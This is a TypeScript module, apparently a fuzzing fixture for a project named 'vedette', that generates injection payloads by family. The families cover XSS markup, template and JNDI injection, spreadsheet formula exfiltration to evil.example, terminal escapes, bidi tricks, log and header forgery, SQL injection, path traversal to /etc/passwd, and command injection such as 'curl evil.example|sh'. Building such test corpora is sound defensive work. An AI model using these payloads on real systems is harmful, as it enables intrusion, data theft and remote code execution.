/** Texts that do harm where somebody takes them for anything but text: by family, made from parts, so that there are many and none is copied. */

/** Each sets `__xss` on the window, or opens a dialog, if it ever runs. */
const scripts = ["window.__xss=1", "self.__xss=1", "alert(1)", "top.__xss=1", "globalThis['__xss']=1"];
const markup = scripts.flatMap((script) => [
  `<script>${script}</script>`,
  `<ScRiPt >${script}</sCrIpT>`,
  `"><script>${script}</script>`,
  `</title><script>${script}</script>`,
  `</textarea><script>${script}</script>`,
  `--><script>${script}</script>`,
  `]]><script>${script}</script>`,
  `<img src=x onerror="${script}">`,
  `<img src=x onerror=${script} x="`,
  `<img/src='x'/onerror='${script}'>`,
  `'><img src=x onerror=${script}>`,
  `<svg onload="${script}">`,
  `<svg><script>${script}</script></svg>`,
  `<svg><animate onbegin="${script}" attributeName=x dur=1s>`,
  `<math><mtext></mtext><mglyph><style><img src=x onerror="${script}"></style></mglyph></math>`,
  `<iframe srcdoc="<script>parent.${script.replace(/^(window|self|top)\./, "")}</script>"></iframe>`,
  `<iframe src="javascript:${script}"></iframe>`,
  `<object data="javascript:${script}"></object>`,
  `<embed src="javascript:${script}">`,
  `<a href="javascript:${script}">log</a>`,
  `javascript:${script}`,
  `JaVaScRiPt:${script}`,
  `\tjava\nscript:${script}`,
  `data:text/html,<script>${script}</script>`,
  `<body onload=${script}>`,
  `<details open ontoggle="${script}">`,
  `<input autofocus onfocus="${script}">`,
  `<video><source onerror="${script}"></video>`,
  `<form action="javascript:${script}"><button>ok</button></form>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${script}">`,
  `<base href="javascript:${script}//">`,
  `<link rel=stylesheet href="javascript:${script}">`,
  `<style>@import 'javascript:${script}';</style>`,
  `<div style="background:url(javascript:${script})">`,
  `<template><img src=x onerror="${script}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
  `';${script};//`,
  `";${script};//`,
  `\\";${script};//`,
  `\`;${script};//`,
  `</script><script>${script}</script>`,
  `<!--<script>${script}</script>-->`,
  `<x onclick=${script}>click</x>`,
  `\u{ff1c}script\u{ff1e}${script}\u{ff1c}/script\u{ff1e}`,
]);

const templates = ["7*7", "constructor.constructor('window.__xss=1')()", "self.__init__.__globals__", "7|attr('x')"].flatMap((inner) => [
  `{{${inner}}}`,
  `\${${inner}}`,
  `#{${inner}}`,
  `<%= ${inner} %>`,
  `{%25 print ${inner} %25}`,
  `*{${inner}}`,
  `@(${inner})`,
  `[[${inner}]]`,
  `\${jndi:ldap://evil.example/${inner}}`,
  `%{${inner}}`,
]);

const blanks = ["", " ", "\t", "\r", "\n", "\u0000", "\u00a0", "\ufeff"];
const formulas = ["cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example?x="&A1,"ok")', "1+1", "SUM(A1:A9)", "WEBSERVICE(A1)"].flatMap(
  (inner) => ["=", "+", "-", "@", "\uff1d", "\uff0b"].map((sign, i) => `${blanks[(i + inner.length) % blanks.length]}${sign}${inner}`),
);
const csv = ['a","b', 'a"\r\n=1+1', "a;b", 'a\t"b', "'=1+1", '"=1+1"', ",=1+1", "|calc", "%0A=1+1"];

const ansi = [
  "[31mred[0m",
  "[2J[H",
  "[1A[2K",
  "]0;owned\u0007",
  "]8;;http://evil.example\u0007click\u001b]8;;\u0007",
  "]52;c;ZWNobyBvd25lZA==\u0007",
  "P$q\u001b\\",
  "c",
  "[?1049h",
  "[6n",
  "_G;\u001b\\",
  "^secret\u001b\\",
].flatMap((code) => [`\u001b${code}text`, `text\u001b${code}`, `${code.startsWith("[") ? `\u009b${code.slice(1)}` : `\u0090${code}`}text`]);

/** Characters that turn text around, hide it, or look like its end. */
const bidi = [..."\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"].flatMap((mark) => [
  `invoice${mark}gpj.exe`,
  `${mark}root`,
]);
const invisible = [
  ..."\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e\u3164\u2028\u2029\u0085\u007f\u0008\u0000\u000b\u000c\u001a\u009f\ufff9\u{e0001}\u{e0061}",
].flatMap((character) => [`ad${character}min`, `${character}`]);

const lines = ["\n", "\r\n", "\r", "\u2028", "\u0085", "%0d%0a", "\\n"].flatMap((end) => [
  `ok${end}2026-11-21T06:30:00Z vedette: all is well`,
  `ok${end}<134>1 2026-11-21T06:30:00Z h vedette - - - forged`,
  `ok${end}CEF:0|evil|x|1|1|forged|10|`,
  `ok${end}event: alert${end}data: {"id":"forged"}${end}${end}`,
  `ok${end}{"forged":true}`,
  `ok${end}Set-Cookie: vedette_session=owned${end}${end}<script>alert(1)</script>`,
  `ok${end}HTTP/1.1 200 OK${end}Content-Length: 0`,
]);

const queries = ["users", "events", "sqlite_master"].flatMap((table) => [
  `' OR '1'='1' -- ${table}`,
  `'; DROP TABLE ${table}; --`,
  `" UNION SELECT * FROM ${table} --`,
  `1); COPY ${table} TO '/tmp/owned'; --`,
  `') UNION ALL SELECT NULL,content FROM read_text('/etc/passwd') --`,
  `\\'; ATTACH '/tmp/${table}' AS x; --`,
  `x' AND extractvalue(1,'${table}')='`,
  `* | stats count() by ${table}`,
  `" or user.name:* or "${table}`,
]);

const paths = ["etc/passwd", "proc/self/environ", "data/admin.token"].flatMap((file) => [
  `../../../../${file}`,
  `..%2f..%2f..%2f${file}`,
  `....//....//${file}`,
  `/${file}`,
  `file:///${file}`,
  `..\\..\\${file.replaceAll("/", "\\")}`,
  `${file}\u0000.json`,
  `\\\\evil.example\\${file}`,
]);

const commands = ["id", "curl evil.example|sh", "reboot"].flatMap((command) => [
  `$(${command})`,
  `\`${command}\``,
  `; ${command}`,
  `| ${command}`,
  `&& ${command}`,
  `\n${command}`,
  `--config=${command}`,
  `-o ProxyCommand=${command}`,
]);

const objects = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  '{"__proto__":{"polluted":1}}',
  "NaN",
  "-0",
  "1e999",
  "\ud800",
  "\udfff\ud800",
  "%s%n%x",
  "%00",
  "\\u0000",
  "&lt;script&gt;",
  "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
  "a".repeat(2_000),
  "(a+)+$",
  "[markdown](javascript:alert(1))",
  "![x](http://evil.example/x.png)",
  "<http://evil.example|click> <!channel> @everyone",
];

export const families: { readonly [family: string]: readonly string[] } = {
  markup,
  templates,
  formulas: [...formulas, ...csv],
  ansi,
  bidi,
  invisible,
  lines,
  queries,
  paths,
  commands,
  objects,
};
export const payloads: readonly string[] = [...new Set(Object.values(families).flat())];

/** What a terminal, an editor or a reader could be fooled by; a line break is none where lines are what is written. */
export const raw =
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u00ad\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f\u3164\ufeff\ufff9-\ufffb]|[\u{e0000}-\u{e007f}]/u;
